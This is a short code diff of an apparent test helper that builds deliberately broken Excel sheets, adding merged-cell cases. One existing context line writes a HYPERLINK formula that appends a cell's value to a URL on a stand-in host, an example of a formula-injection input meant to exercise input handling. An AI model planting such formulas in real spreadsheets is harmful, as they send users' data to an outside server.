@@ -325,6 +325,10 @@ def spoil(name: str, sent: Sent, target: Path) -> Path:
             sheet.cell(1, sheet.max_column + 1, "Должность")
         case "error":
             sheet.cell(2, heads["Категория"], "=1/0")
+        case "merged":
+            sheet.merge_cells(start_row=2, end_row=4, start_column=heads["Категория"], end_column=heads["Категория"])
+        case "merged_names":
+            sheet.merge_cells("A2:A3")
         case "link":
             sheet.cell(2, heads["Категория"], '=HYPERLINK("http://192.0.2.1/?"&A2,"высшая")')
         case "command":
